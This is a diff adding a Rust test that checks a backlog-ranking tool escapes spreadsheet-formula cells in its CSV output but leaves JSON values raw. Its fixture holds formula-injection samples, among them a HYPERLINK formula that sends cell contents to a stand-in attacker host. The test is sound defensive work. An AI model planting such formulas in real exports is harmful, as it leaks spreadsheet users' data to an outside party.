@@ -388,3 +388,41 @@ fn options_take_their_value_after_a_space_or_an_equals_sign() {
     assert_eq!(ok(&spaced), ok(&joined));
     assert_eq!(ok(&spaced).lines().count(), 3, "header and two rows");
 }
+
+#[test]
+fn csv_output_quotes_cells_a_spreadsheet_would_run() {
+    let backlog = file(
+        "formulas.json",
+        r#"[{"id": "=1+1", "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "reach": 40,
+             "impact": 1, "confidence": 1, "effort": 1, "moscow": "must"},
+            {"id": "@cmd", "title": "+SUM(A1:A9)", "reach": 30, "impact": 1, "confidence": 1, "effort": 1,
+             "moscow": "should", "depends_on": ["-5"]},
+            {"id": "-5", "title": "\tTabbed", "reach": 20, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"},
+            {"id": "safe", "title": "Safe - title", "reach": 10, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"}]"#,
+    );
+    let run = rank(&[&backlog, "--format", "csv"]);
+    assert_eq!(
+        ok(&run),
+        "position,rank,id,title,score,reach,impact,confidence,effort,rice\n\
+         1,1,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",40.0,40.0,1.0,1.0,1.0,40.0\n\
+         2,2,'@cmd,'+SUM(A1:A9),30.0,30.0,1.0,1.0,1.0,30.0\n\
+         3,3,'-5,'\tTabbed,20.0,20.0,1.0,1.0,1.0,20.0\n\
+         4,4,safe,Safe - title,10.0,10.0,1.0,1.0,1.0,10.0\n"
+    );
+    // A planned order guards its promoted_by cells too; numbers are never quoted.
+    let run =
+        rank(&[&backlog, "--format", "csv", "--respect-dependencies", "--top", "2", "--framework", "moscow"]);
+    assert_eq!(
+        ok(&run),
+        "position,rank,id,title,score,category,promoted_by,pinned\n\
+         1,1,'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",,must,,false\n\
+         2,3,'-5,'\tTabbed,,could,'@cmd,false\n"
+    );
+    // JSON is data, not a spreadsheet: the values as they are.
+    let json: serde_json::Value =
+        serde_json::from_str(ok(&rank(&[&backlog, "--format", "json"]))).expect("json");
+    assert_eq!(
+        (&json["ranking"][0]["id"], &json["ranking"][2]["title"]),
+        (&"=1+1".into(), &"\tTabbed".into())
+    );
+}
